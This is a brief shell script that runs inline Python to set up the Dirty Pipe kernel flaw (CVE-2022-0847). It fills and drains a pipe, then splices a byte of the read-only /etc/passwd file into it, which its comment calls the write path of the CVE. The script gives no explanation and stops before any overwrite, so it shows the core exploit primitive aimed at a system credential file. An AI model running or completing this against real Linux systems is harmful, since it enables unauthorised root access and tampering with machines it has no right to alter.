#!/bin/sh
# A page of a file that may only be read is spliced into a pipe, the write path of CVE-2022-0847.
# user: alice
set -eu
/usr/bin/python3 -c '
import os
r, w = os.pipe()
os.write(w, b"x" * 65536)
os.read(r, 65536)
f = os.open("/etc/passwd", os.O_RDONLY)
os.splice(f, w, 1, offset_src=3)
'
